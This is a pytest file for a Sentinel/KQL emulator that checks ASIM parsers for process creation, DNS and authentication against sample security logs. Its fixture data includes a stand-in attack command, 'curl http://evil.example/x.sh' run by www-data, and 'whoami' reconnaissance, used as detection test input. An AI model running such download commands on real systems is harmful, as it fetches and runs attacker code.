"""Built-in ASIM parsers: rules written for Sentinel's normalised schemas read our tables."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from watchkeeper import Workspace
from watchkeeper.errors import KqlBindError
from watchkeeper.kql.scope import StoredFunction

T0 = datetime(2024, 5, 1, 12, tzinfo=UTC)


@pytest.fixture(scope="module")
def ws() -> Workspace:
    workspace = Workspace.open(None)
    workspace.ingest("SecurityEvent", [
        {"TimeGenerated": T0, "EventID": 4688, "Computer": "dc01", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
         "CommandLine": "cmd.exe /c whoami", "ParentProcessName": "C:\\Windows\\explorer.exe",
         "SubjectUserName": "alice", "SubjectDomainName": "CONTOSO"},
        {"TimeGenerated": T0, "EventID": 4625, "Computer": "dc01", "TargetUserName": "bob",
         "TargetDomainName": "CONTOSO", "IpAddress": "10.0.0.9", "Status": "0xc000006d"},
    ])  # fmt: skip
    workspace.ingest("DeviceProcessEvents", [
        {"TimeGenerated": T0, "ActionType": "ProcessCreated", "DeviceName": "web01", "FolderPath": "/usr/bin/curl",
         "ProcessCommandLine": "curl http://evil.example/x.sh", "InitiatingProcessFolderPath": "/bin/bash",
         "InitiatingProcessAccountName": "www-data"},
    ])  # fmt: skip
    workspace.ingest("DnsEvents", [
        {"TimeGenerated": T0, "SubType": "LookupQuery", "Name": "evil.example", "ClientIP": "10.0.0.5",
         "QueryType": "A", "ResultCode": 3, "Computer": "dns01"},
        {"TimeGenerated": T0, "SubType": "LookupQuery", "Name": "contoso.com", "ClientIP": "10.0.0.6",
         "QueryType": "A", "ResultCode": 0, "Computer": "dns01"},
    ])  # fmt: skip
    return workspace


def test_im_process_create_unions_windows_and_defender_process_events(ws: Workspace) -> None:
    result = ws.query(
        "imProcessCreate | order by DvcHostname asc"
        " | project DvcHostname, TargetProcessName, TargetProcessFilename, ActingProcessName, ActorUsername, EventProduct"
    )
    assert result.rows == [
        ("dc01", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", "C:\\Windows\\explorer.exe", "CONTOSO\\alice",
         "Security Events"),
        ("web01", "/usr/bin/curl", "curl", "/bin/bash", "www-data", "M365 Defender for Endpoint"),
    ]  # fmt: skip


def test_asim_parameters_filter_as_sentinels_do(ws: Workspace) -> None:
    hits = ws.query("_Im_ProcessCreate(commandline_has_any=dynamic(['whoami'])) | project DvcHostname").rows
    assert hits == [("dc01",)]
    later = ws.query("imProcessCreate(starttime=datetime(2024-05-02)) | count").rows
    assert later == [(0,)]
    nx = ws.query("_Im_Dns(domain_has_any=dynamic(['evil.example']), responsecodename='NXDOMAIN')"
                  " | project SrcIpAddr, DnsQuery, EventResult").rows  # fmt: skip
    assert nx == [("10.0.0.5", "evil.example", "Failure")]


def test_im_authentication_reads_windows_logon_failures(ws: Workspace) -> None:
    rows = ws.query(
        "imAuthentication | where EventResult == 'Failure' | project TargetUsername, SrcIpAddr"
    ).rows
    assert rows == [("CONTOSO\\bob", "10.0.0.9")]


def test_an_unknown_asim_parameter_is_a_bind_error(ws: Workspace) -> None:
    with pytest.raises(KqlBindError, match="has no parameter 'colour'"):
        ws.query("_Im_Dns(colour='red')")


def test_a_stored_function_of_the_same_name_replaces_the_built_in_one() -> None:
    workspace = Workspace.open(None)
    workspace._functions["imProcessCreate"] = StoredFunction(
        "imProcessCreate", "print TargetProcessName = 'mine'"
    )
    assert workspace.query("imProcessCreate").rows == [("mine",)]


def test_a_let_function_passes_its_parameters_to_an_asim_parser(ws: Workspace) -> None:
    rows = ws.query(
        "let nx = (stime:datetime, etime:datetime) { _Im_Dns(responsecodename='NXDOMAIN', starttime=stime, endtime=etime) };\n"
        "nx(datetime(2024-05-01), datetime(2024-05-02)) | project DnsQuery"
    ).rows
    assert rows == [("evil.example",)]
